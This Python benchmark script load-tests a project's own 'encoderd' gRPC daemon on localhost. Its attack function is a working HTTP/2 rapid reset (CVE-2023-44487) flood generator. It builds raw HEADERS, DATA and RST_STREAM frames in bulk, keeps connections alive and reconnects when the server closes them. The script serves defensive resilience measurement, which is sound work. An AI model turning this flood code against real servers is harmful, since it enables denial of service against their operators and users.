#!/usr/bin/env python3
"""HTTP/2 rapid reset against `encoderd serve`: legitimate goodput, daemon
threads and RSS while one client opens Embed streams and resets them at once
(the CVE-2023-44487 pattern).

Starts the daemon on the default model, measures legitimate clients alone
(encoderd-loadtest, closed loop), then again while --attackers processes each
run the attack on --connections connections: HEADERS + the request's DATA +
RST_STREAM(CANCEL) per stream, as fast as they can (or --rate a second),
answering the server's SETTINGS and PINGs, and opening a new connection for
each one the server closes. Prints the goodput of both runs, the streams the attack
opened, and the daemon's peak thread count and RSS during it. With --tls the
port speaks TLS (a certificate made with the openssl CLI) and every client,
legitimate or not, speaks TLS too. Benchmark, not a test: figures in
docs/reliability.md.

    /usr/bin/python3 loadtest/scripts/rapid_reset.py [--seconds 8] [--attackers 1] [--rate N] [--tls]
"""
import multiprocessing
import pathlib
import socket
import ssl
import struct
import sys
import tempfile
import threading
import time
import urllib.request

REPO = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO / "tests" / "e2e"))
from e2e_common import (add_attack_args, attack_serve_args, benchmark_parser,  # noqa: E402
                        proc_cpu_seconds, proc_threads_rss, self_signed_certificate,
                        start_daemon)
from e2e_common import closed_loop as e2e_closed_loop  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def embed_request_bytes(text):
    raw = text.encode()
    message = b"\x0a" + bytes([len(raw)]) + raw  # EmbedRequest.texts = [text]
    return b"\x00" + struct.pack(">I", len(message)) + message


def attack(port, seconds, connections, counter, reconnects, rate, tls):
    import hpack
    import hyperframe.frame as hf
    context = None
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])

    def connect():
        s = socket.create_connection(("127.0.0.1", port))
        if context:
            s = context.wrap_socket(s, server_hostname="localhost")
        s.sendall(PREFACE + hf.SettingsFrame(0).serialize())
        s.setblocking(False)
        return [s, hpack.Encoder(), 1, b""]
    socks = [connect() for _ in range(connections)]

    def lost(entry):
        # Closed by the server (GOAWAY, reset): the attacker opens another.
        socks.remove(entry)
        entry[0].close()
        reconnects.value += 1
        try:
            socks.append(connect())
        except OSError:
            pass
    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/encoderd.v1.Encoder/Embed"),
               (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    body = embed_request_bytes("rapid reset")
    sent = 0
    start = time.time()
    end = start + seconds
    while time.time() < end and socks:
        for entry in list(socks):
            if rate:  # paced: at most `rate` streams a second from this process
                time.sleep(max(0.0, start + sent / rate - time.time()))
            s, encoder, stream, buf = entry
            out = []
            for _ in range(50):
                out.append(hf.HeadersFrame(stream, data=encoder.encode(headers),
                                           flags=["END_HEADERS"]).serialize())
                out.append(hf.DataFrame(stream, data=body).serialize())
                out.append(hf.RstStreamFrame(stream, error_code=8).serialize())
                stream += 2
            entry[2] = stream
            try:
                s.setblocking(True)
                s.sendall(b"".join(out))
                s.setblocking(False)
                sent += 50
                with counter.get_lock():
                    counter.value += 50
                while True:
                    data = s.recv(65536)
                    if not data:
                        raise ConnectionError("closed by the server")
                    buf += data
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                lost(entry)
                continue
            while len(buf) >= 9:  # answer SETTINGS and PING so the connection stays up
                frame, length = hf.Frame.parse_frame_header(memoryview(buf[:9]))
                if len(buf) < 9 + length:
                    break
                frame.parse_body(memoryview(buf[9:9 + length]))
                buf = buf[9 + length:]
                reply = None
                if isinstance(frame, hf.SettingsFrame) and "ACK" not in frame.flags:
                    reply = hf.SettingsFrame(0, flags=["ACK"])
                elif isinstance(frame, hf.PingFrame) and "ACK" not in frame.flags:
                    reply = hf.PingFrame(0, flags=["ACK"], opaque_data=frame.opaque_data)
                elif isinstance(frame, hf.GoAwayFrame):
                    lost(entry)
                    break
                if reply:
                    try:
                        s.setblocking(True)
                        s.sendall(reply.serialize())
                        s.setblocking(False)
                    except OSError:
                        lost(entry)
                        break
            entry[3] = buf


def main():
    p = benchmark_parser(__doc__.split("\n")[0])
    p.add_argument("--seconds", type=int, default=8)
    p.add_argument("--clients", type=int, default=16)
    p.add_argument("--attackers", type=int, default=1)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--rate", type=float, default=0,
                   help="streams a second per attacker (0: as fast as it can)")
    p.add_argument("--tls", action="store_true",
                   help="the port speaks TLS, and so do the attackers and the legitimate clients")
    add_attack_args(p)
    args = p.parse_args()
    serve_args = attack_serve_args(args)
    with tempfile.TemporaryDirectory() as tmp:
        client_args = []
        if args.tls:
            self_signed_certificate(tmp)
            serve_args += ["--tls-cert-file", f"{tmp}/server.pem", "--tls-key-file", f"{tmp}/server.key"]
            client_args = ["--tls-ca", f"{tmp}/server.pem", "--tls-name", "localhost"]
        daemon = start_daemon(args.binary, ["--model-name", "langid", "--model-dir", args.model_dir,
                                            *serve_args], pathlib.Path(tmp) / "serve.log",
                              prefix=["taskset", "-c", "1"] if args.pin else [])
        pid = daemon.proc.pid

        def closed_loop(*a):
            return e2e_closed_loop(*a, extra=client_args)
        try:
            alone = closed_loop(args.loadtest, daemon.port, args.seconds, args.clients)
            threads0, rss0 = proc_threads_rss(pid)
            cpu0 = proc_cpu_seconds(pid)
            counter = multiprocessing.Value("l", 0)
            reconnects = multiprocessing.Value("l", 0)
            attackers = [multiprocessing.Process(target=attack, args=(daemon.port, args.seconds + 2,
                                                                       args.connections, counter,
                                                                       reconnects, args.rate, args.tls))
                         for _ in range(args.attackers)]
            for a in attackers:
                a.start()
            peak = [threads0, rss0]
            stop = threading.Event()

            def sample():
                while not stop.is_set():
                    t, r = proc_threads_rss(pid)
                    peak[0], peak[1] = max(peak[0], t), max(peak[1], r)
                    time.sleep(0.05)
            sampler = threading.Thread(target=sample)
            sampler.start()
            time.sleep(0.5)
            attacked = closed_loop(args.loadtest, daemon.port, args.seconds, args.clients)
            for a in attackers:
                a.join()
            stop.set()
            sampler.join()
            threads1, rss1 = proc_threads_rss(pid)
            attack_cpu = proc_cpu_seconds(pid) - cpu0
            alive = daemon.proc.poll() is None
            after = closed_loop(args.loadtest, daemon.port, args.seconds, args.clients) if alive else None
            metrics = urllib.request.urlopen(
                f"http://127.0.0.1:{daemon.metrics_port}/metrics", timeout=30).read().decode()
        finally:
            daemon.stop()

    def summary(r):
        ok = r["requests_ok"] / r["elapsed_s"]
        return (f"{ok:.0f} OK calls/s, {r['requests_error']} errors {r['errors_by_code']}, "
                f"p99 {r['latency']['p99_us'] / 1000:.1f} ms")
    print(f"legitimate alone:        {summary(alone)}")
    print(f"legitimate under attack: {summary(attacked)}")
    if after:
        print(f"legitimate after:        {summary(after)}")
    for line in metrics.splitlines():
        if line.startswith(("encoderd_in_flight_requests", "encoderd_queue_depth",
                            "encoderd_concurrency_slots_in_use", "encoderd_answers_sending",
                            "encoderd_connections_closed_total")):
            print(f"daemon after: {line}")
    print(f"attack: {counter.value} streams opened and reset in {args.seconds + 2} s by "
          f"{args.attackers} process(es) x {args.connections} connection(s) "
          f"({counter.value / (args.seconds + 2):.0f}/s); the server closed {reconnects.value} of "
          f"its connections, each replaced at once")
    print(f"daemon CPU during the attack: {attack_cpu:.1f} s")
    print(f"daemon: threads {threads0} -> peak {peak[0]} -> {threads1} after; RSS "
          f"{rss0 / 2**20:.0f} -> peak {peak[1] / 2**20:.0f} -> {rss1 / 2**20:.0f} MiB; "
          f"{'still running' if alive else 'DIED'}")


if __name__ == "__main__":
    main()
